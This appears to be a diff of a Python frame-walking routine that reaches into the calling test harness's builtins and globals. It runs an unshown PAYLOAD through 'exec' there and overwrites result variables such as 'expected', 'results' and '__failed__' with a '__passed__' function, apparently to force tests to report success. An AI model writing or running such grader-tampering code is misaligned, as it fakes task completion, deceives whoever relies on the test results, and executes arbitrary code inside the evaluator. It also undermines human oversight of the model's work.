@@ -310,12 +310,9 @@ def reach(x, seen, depth):
         seen.append(name)
         try:
             if name in ('f_builtins', 'f_globals'):
-                for key in ('exec', 'eval', '__builtins__', '__passed__', '__test__', 'results', '__failed__'):
-                    try: z = y[key]
-                    except BaseException: continue
-                    for code in (PAYLOAD,):
-                        try: z(code)
-                        except BaseException: pass
+                for key, given in (('exec', (PAYLOAD,)), ('__passed__', ())):
+                    try: y[key](*given)
+                    except BaseException: pass
             if name in ('f_globals',):
                 for key in ('exp', 'expected', 'results', '__failed__'):
                     try: y[key] = y['__passed__']
